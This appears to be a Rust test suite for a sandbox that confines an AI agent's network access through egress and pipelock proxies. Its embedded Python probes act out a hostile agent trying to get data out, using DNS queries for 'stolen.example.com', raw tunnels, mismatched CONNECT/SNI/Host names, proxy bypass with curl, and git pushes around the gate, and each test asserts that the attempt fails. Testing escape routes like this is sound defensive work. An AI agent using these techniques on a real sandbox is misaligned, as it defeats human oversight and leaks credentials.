//! What a hostile agent tries to get out with. None of it reaches the web.

use std::net::TcpListener;
use std::path::Path;

use crate::world::{INSIDE, Setup, TOKEN, World, exec, is_there, pipelock_config};

/// Beside api.example.com with a token, names below a wildcard without one.
const WITH_A_WILDCARD: &str = "\
routes:
  - host: api.example.com
    paths: [\"/v1/\"]
    auth: {scheme: bearer, token_env: EGRESS_TOKEN_1}
  - host: \"*.example.com\"
";

/// Connects and sends by TCP and UDP to each ADDRESS:PORT, and prints what was connected.
const CONNECT: &str = "
import socket, sys
for place in sys.argv[1:]:
    address, port = place.rsplit(':', 1)
    for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:
        try:
            family = socket.getaddrinfo(address, port, type=kind)[0][0]
            with socket.socket(family, kind) as connection:
                connection.settimeout(3)
                connection.connect(socket.getaddrinfo(address, port, type=kind)[0][4])
                connection.sendall(bytes.fromhex(QUESTION))
                if kind == socket.SOCK_STREAM:
                    print(place, 'connected')
                elif connection.recv(512):
                    print(place, 'answered')
        except OSError as error:
            print(place, type(error).__name__, error, file=sys.stderr)
";

/// For TXT of stolen.example.com, as it stands in a datagram.
const QUESTION: &str = "00000100000100000000000006737\
    46f6c656e076578616d706c6503636f6d0000100001";

/// Is a name server on the agent's own 127.0.0.1:53, asks Docker's resolver, and prints what came of
/// it: `own` if the question came to that server, else the code of the answer and its answers.
const RESOLVER: &str = "
import socket
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(('127.0.0.1', 53))
server.settimeout(0)
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.settimeout(0.2)
client.connect(('127.0.0.11', 53))
client.send(bytes.fromhex(QUESTION))
for _ in range(300):
    try:
        if b'stolen' in server.recv(512):
            print('own')
            break
    except BlockingIOError:
        pass
    try:
        answer = client.recv(512)
        print('code', answer[3] & 15, 'answers', answer[7])
        break
    except TimeoutError:
        pass
";

/// Opens a tunnel through egress to api.example.com, sends TEXT in it, and prints what comes back.
const RAW: &str = "
import socket, sys
for text in sys.argv[1:]:
    with socket.create_connection(('egress', 9099), 60) as tunnel:
        tunnel.sendall(b'CONNECT api.example.com:443 HTTP/1.1\\r\\nHost: api.example.com:443\\r\\n\\r\\n')
        print(tunnel.recv(4096).split(b'\\r\\n')[0].decode())
        tunnel.sendall(text.encode() + b'\\r\\n\\r\\n')
        back = b''
        while part := tunnel.recv(4096):
            back += part
        print(back[:12])
";

/// Says by CONNECT, SNI and Host three names, and prints the answer's status, or that there was none.
const NAMES: &str = "
import http.client, socket, ssl, sys
for names in sys.argv[1:]:
    connect, sni, host = names.split()
    with socket.create_connection(('egress', 9099), 60) as raw:
        raw.sendall(f'CONNECT {connect}:443 HTTP/1.1\\r\\nHost: {connect}:443\\r\\n\\r\\n'.encode())
        status = raw.recv(4096).split()[1].decode()
        if status == '200':
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            with context.wrap_socket(raw, server_hostname=None if sni == '-' else sni) as tunnel:
                tunnel.sendall(f'GET /v1/x HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n'.encode())
                answer = http.client.HTTPResponse(tunnel)
                answer.begin()
                status = f'{answer.status} {answer.read().decode()}'
        print(names, '->', ' '.join(status.split()))
";

/// The same by HTTP/2: `:authority` names another host than CONNECT and SNI, then than Host.
const AUTHORITY: &str = "
import socket, ssl, h2.config, h2.connection, h2.events
for authority, host in ('late.example.com', None), ('api.example.com', 'late.example.com'):
    with socket.create_connection(('egress', 9099), 60) as raw:
        raw.sendall(b'CONNECT api.example.com:443 HTTP/1.1\\r\\nHost: api.example.com:443\\r\\n\\r\\n')
        raw.recv(4096)
        context = ssl.create_default_context()
        context.set_alpn_protocols(['h2'])
        with context.wrap_socket(raw, server_hostname='api.example.com') as tunnel:
            config = h2.config.H2Configuration(
                validate_outbound_headers=False, normalize_outbound_headers=False, header_encoding='utf-8')
            peer = h2.connection.H2Connection(config)
            peer.initiate_connection()
            head = [(':method', 'GET'), (':scheme', 'https'), (':authority', authority), (':path', '/v1/x')]
            peer.send_headers(1, head + ([('host', host)] if host else []), end_stream=True)
            tunnel.sendall(peer.data_to_send())
            status = None
            while status is None and (data := tunnel.recv(65536)):
                for event in peer.receive_data(data):
                    if isinstance(event, h2.events.ResponseReceived):
                        status = dict(event.headers)[':status']
                    elif isinstance(event, h2.events.StreamReset | h2.events.ConnectionTerminated):
                        status = 'reset'
            print(status)
";

#[test]
fn there_is_no_way_out_but_the_sidecars() {
    if !is_there() {
        return;
    }
    let world = Setup::new().start();
    let before = packets(&world);
    // Of the test's host, whose addresses on the networks the agent may try.
    let host = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = host.local_addr().unwrap().port();
    let web = world.outside(&world.web, "IPAddress");
    let sidecars = world.inside(&world.sidecars, "IPAddress");
    let beyond = world.outside(&world.sidecars, "IPAddress");
    let mut places = vec![format!("{beyond}:9099")];
    // pipelock's proxy and its figures; the control socket is no port.
    places.extend(["8888", "9091"].map(|port| format!("{sidecars}:{port}")));
    places.extend(["443", "80", "53", "22"].map(|port| format!("{web}:{port}")));
    places.push("api.example.com:443".to_owned());
    let gateways = [world.inside(&world.agent, "Gateway"), world.outside(&world.web, "Gateway")];
    for gateway in gateways.iter().filter(|gateway| !gateway.is_empty()) {
        places.extend([port.to_string(), "53".to_owned()].map(|port| format!("{gateway}:{port}")));
    }
    // Of nobody: an address for documentation.
    places.push("192.0.2.53:53".to_owned());
    let connect = CONNECT.replace("QUESTION", &format!("'{QUESTION}'"));
    let arguments: Vec<&str> = places.iter().map(String::as_str).collect();
    let said = world.agent_python(&connect, &arguments);
    assert_eq!((said.code, &*said.stdout), (0, ""), "{said:?}");
    // The same script does connect where it may.
    let said = world.agent_python(&connect, &["egress:9099"]);
    assert_eq!(said.stdout, "egress:9099 connected\n", "{said:?}");

    let ports = listening(&world);
    assert_eq!(ports, ["tcp 9099", "tcp 9100", "tcp 9418", "tcp 9420"]);

    // Names of other networks are not known, and what Docker's resolver doesn't know itself it asks
    // only where `dns` says: of the agent's own loopback. Newer engines ask nobody.
    let unknown = world.agent(&["getent", "hosts", "api.example.com"]);
    assert_eq!((unknown.code, &*unknown.stdout), (2, ""), "{unknown:?}");
    let said = world.agent_python(&RESOLVER.replace("QUESTION", &format!("'{QUESTION}'")), &[]);
    let refused = ["own\n", "code 2 answers 0\n", "code 5 answers 0\n"];
    assert!(refused.contains(&&*said.stdout), "{said:?}");

    // To do without the proxy is to get nowhere.
    for way in [
        vec!["--noproxy", "*", "https://api.example.com/v1/x"],
        vec![
            "--noproxy",
            "*",
            "--resolve",
            &format!("api.example.com:443:{web}"),
            "-k",
            "https://api.example.com/v1/x",
        ],
    ] {
        let said = world.curl(&[&["--connect-timeout", "3"], &*way].concat());
        assert_eq!(said.stdout, "\n000", "{said:?}");
    }

    assert_eq!(packets(&world), before);
    only_the_control_arrives(&world);
    // What was counted does count.
    assert_ne!(packets(&world), before);
}

#[test]
fn the_example_has_the_inner_network_of_these_tests() {
    let example = include_str!("../../examples/sidecars/compose.yaml");
    let inside =
        example.split_once("\n  inside:\n").unwrap().1.split_once("\n  outside:").unwrap().0;
    assert_eq!(INSIDE, ["--internal", "--opt=com.docker.network.bridge.inhibit_ipv4=true"]);
    assert!(inside.contains("internal: true"), "{inside}");
    assert!(inside.contains("com.docker.network.bridge.inhibit_ipv4: \"true\""), "{inside}");
}

#[test]
fn egress_lets_nothing_through_that_is_not_what_it_says() {
    if !is_there() {
        return;
    }
    let setup = Setup::new();
    setup.write("egress/routes.yaml", WITH_A_WILDCARD);
    let hosts = ["api.example.com", "late.example.com", "raw.example.com"];
    setup.write("pipelock/pipelock.yaml", &pipelock_config(&hosts));
    let world = setup.start();
    let before = packets(&world);

    // Raw TCP in a tunnel.
    let said = world.agent_python(RAW, &["SSH-2.0-x", "\u{1}\u{2}raw", "EHLO evil.example"]);
    let lines: Vec<&str> = said.stdout.lines().collect();
    assert_eq!(lines.len(), 6, "{said:?}");
    for tunnel in lines.chunks(2) {
        assert!(tunnel[0].contains(" 200 "), "{said:?}");
        assert!(["b''", "b'HTTP/1.1 400'"].contains(&tunnel[1]), "{said:?}");
    }

    // Names that do not agree.
    let api = "api.example.com";
    let late = "late.example.com";
    let names = [
        format!("{late} {api} {api}"),
        format!("{api} {late} {api}"),
        format!("{api} {api} {late}"),
        format!("{api} {late} {late}"),
        format!("{late} {late} {api}"),
        format!("{api} - {api}"),
    ];
    let said = world.agent_python(NAMES, &names.each_ref().map(String::as_str));
    let mismatches = said
        .stdout
        .lines()
        .filter(|line| line.contains("-> 403 ") && line.contains(r#""reason": "host-mismatch""#));
    assert_eq!(mismatches.count(), names.len(), "{said:?}");
    let said = world.agent_python(AUTHORITY, &[]);
    for status in said.stdout.lines() {
        assert!(["400", "403", "reset"].contains(&status), "{said:?}");
    }
    assert_eq!(said.stdout.lines().count(), 2, "{said:?}");

    // The token without TLS; addresses, and what else the sidecars could reach for the agent.
    denied(&world, &["http://api.example.com/v1/x"], "https-required");
    denied(&world, &["http://api.example.com:443/v1/x"], "no-route-for-port");
    let web = world.outside(&world.web, "IPAddress");
    for place in [&*web, "127.0.0.1:8888", "127.0.0.1:9091", "[::1]:8888", "2130706433:9420"] {
        denied(&world, &["-g", &format!("http://{place}/metrics")], "malformed-host");
    }
    for place in ["localhost:8888", "git-gate:9420", "supervise:9100"] {
        denied(&world, &["--noproxy", "", &format!("http://{place}/")], "no-route-for-host");
    }
    denied(&world, &["http://late.example.com:53/"], "no-route-for-port");

    // A push that does not go through git-gate.
    let script = "cd /tmp && git init -q push && cd push && \
        git -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m x && \
        git push https://late.example.com/app.git HEAD:refs/heads/main";
    let said = world.agent(&["sh", "-c", script]);
    assert!(said.code != 0 && said.stderr.contains("403"), "{said:?}");
    let post = ["--data-binary", "0000", "https://late.example.com/app.git/git-receive-pack"];
    denied(&world, &post, "git-push");
    denied(
        &world,
        &["https://late.example.com/a/info/refs?service=git%2Dreceive-pack"],
        "git-push",
    );

    assert_eq!(packets(&world), before);
    only_the_control_arrives(&world);

    // Other hosts get no token, by the wildcard as little as by a redirect.
    let redirected = world.curl(&["-L", "https://api.example.com/v1/redirect"]);
    assert_eq!(redirected.stdout, "reached /stolen\n\n200", "{redirected:?}");
    let said = world.curl(&["https://late.example.com/v1/x"]);
    assert_eq!(said.stdout, "reached /v1/x\n\n200", "{said:?}");
    world.web.wait_for_lines("\"scheme\"", 4);
    let seen = world.seen();
    assert_eq!(seen.len(), 4, "{seen:?}");
    let at_late = seen.iter().filter(|request| request["host"] == "late.example.com");
    assert_eq!(at_late.clone().count(), 2);
    for request in at_late {
        assert!(!request.to_string().contains(TOKEN), "{request}");
    }
    assert!(seen.iter().any(|request| request.to_string().contains(TOKEN)));
}

#[test]
fn with_a_typo_in_the_routes_nothing_starts() {
    if !is_there() {
        return;
    }
    let setup = Setup::new();
    // A wildcard with a token is no better than the typo.
    let routes = WITH_A_WILDCARD.replace("paths", "path")
        + "    auth: {scheme: bearer, token_env: EGRESS_TOKEN_1}\n";
    setup.write("egress/routes.yaml", &routes);
    let world = setup.start_without_waiting();
    assert_eq!(world.sidecars.wait(), 78);
    let stderr = world.sidecars.stderr();
    let file = "/etc/egress/routes.yaml";
    for (place, what) in [("3:5", "path"), ("6:11", "auth")] {
        let line = stderr.lines().find(|line| line.contains(&format!("{file}:{place}: ")));
        assert!(line.is_some_and(|line| line.contains(what)), "{place}: {stderr}");
    }
    assert!(world.sidecars.record().contains("egress"), "{stderr}");
    assert!(world.seen().is_empty());
}

#[test]
fn when_the_addon_fails_nothing_leaves() {
    if !is_there() {
        return;
    }
    let setup = Setup::new();
    let copy = setup.path("broken-egress");
    copy_addon(&copy);
    let addon = copy.join("addon.py");
    // Each hook that a request comes through fails, for a path of its own.
    let mut script = std::fs::read_to_string(&addon).unwrap();
    for (hook, path) in [("requestheaders", "/v1/head"), ("request", "/v1/body")] {
        let definition = format!("def {hook}(self, http_flow: http.HTTPFlow) -> None:\n");
        assert!(script.contains(&definition));
        let failing = format!(
            "{definition}        if http_flow.request.path == {path:?}:\n            \
             raise RuntimeError(http_flow.request.headers)\n"
        );
        script = script.replace(&definition, &failing);
    }
    std::fs::write(&addon, script).unwrap();
    let world = setup.option(&format!("--volume={}:/app/egress:ro", copy.display())).start();
    let head = world.curl(&["-d", "stolen", "https://api.example.com/v1/head"]);
    assert!(head.stdout.contains(r#""reason": "internal-error""#), "{head:?}");
    assert!(head.stdout.ends_with("\n403"), "{head:?}");
    let body = world.curl(&["https://api.example.com/v1/body"]);
    assert!(!body.stdout.ends_with("\n200"), "{body:?}");
    world.sidecars.wait_for_lines("\"event\": \"internal-error\"", 2);
    only_the_control_arrives(&world);
}

/// A request is answered by egress, with 403 and this reason.
fn denied(world: &World, arguments: &[&str], reason: &str) {
    let said = world.curl(arguments);
    let wanted = format!(r#""reason": "{reason}""#);
    assert!(
        said.stdout.contains(&wanted) && said.stdout.ends_with("\n403"),
        "{arguments:?}: {said:?}"
    );
}

/// Sends one request that is allowed; the web has seen it, and nothing before.
fn only_the_control_arrives(world: &World) {
    let control = world.curl(&["https://api.example.com/v1/control"]);
    assert_eq!(control.stdout, "reached /v1/control\n\n200", "{control:?}");
    world.web.wait_for("\"path\": \"/v1/control\"");
    let seen = world.seen();
    assert!(seen.len() == 1 && seen[0]["path"] == "/v1/control", "{seen:?}");
}

/// The numbers of segments and datagrams that have come to the web from anywhere.
fn packets(world: &World) -> Vec<String> {
    let table = exec(&world.web, &[], &["cat", "/proc/net/snmp"]).stdout;
    let mut found = Vec::new();
    for (protocol, columns) in [("Tcp:", &["InSegs"][..]), ("Udp:", &["InDatagrams", "NoPorts"])] {
        let mut rows = table.lines().filter(|line| line.starts_with(protocol));
        let (names, values) = (rows.next().unwrap(), rows.next().unwrap());
        let values = names.split_whitespace().zip(values.split_whitespace());
        found.extend(
            values
                .filter(|(name, _)| columns.contains(name))
                .map(|(name, value)| format!("{name} {value}")),
        );
    }
    assert_eq!(found.len(), 3);
    found
}

/// The ports of the sidecars that are open to others than themselves.
fn listening(world: &World) -> Vec<String> {
    let script =
        "cd /proc/net && for kind in tcp tcp6 udp udp6; do sed \"s/^/$kind /\" $kind; done";
    let table = world.operator(&["sh", "-c", script]).stdout;
    let mut ports: Vec<String> = table.lines().filter_map(open_port).collect();
    ports.sort();
    ports.dedup();
    ports
}

/// `KIND PORT` if this line of `/proc/net`, with its kind in front, is of a socket that hears others.
fn open_port(line: &str) -> Option<String> {
    let fields: Vec<&str> = line.split_whitespace().collect();
    let (kind, state) = (fields[0].trim_end_matches('6'), *fields.get(4)?);
    let (address, port) = fields.get(2)?.split_once(':')?;
    // LISTEN; for UDP, not connected.
    let hears = (kind, state) == ("tcp", "0A") || (kind, state) == ("udp", "07");
    // 127.0.0.0/8, whose last byte comes first, and ::1.
    let own = address.ends_with("7F") || address == "00000000000000000000000001000000";
    let port = u16::from_str_radix(port, 16).ok()?;
    (hears && !own).then(|| format!("{kind} {port}"))
}

/// The addon as it is in the repository, which the image has a copy of.
fn copy_addon(to: &Path) {
    std::fs::create_dir(to).unwrap();
    for entry in
        std::fs::read_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/sandbox/egress/egress")).unwrap()
    {
        let entry = entry.unwrap();
        if entry.path().extension().is_some_and(|extension| extension == "py") {
            std::fs::copy(entry.path(), to.join(entry.file_name())).unwrap();
        }
    }
}
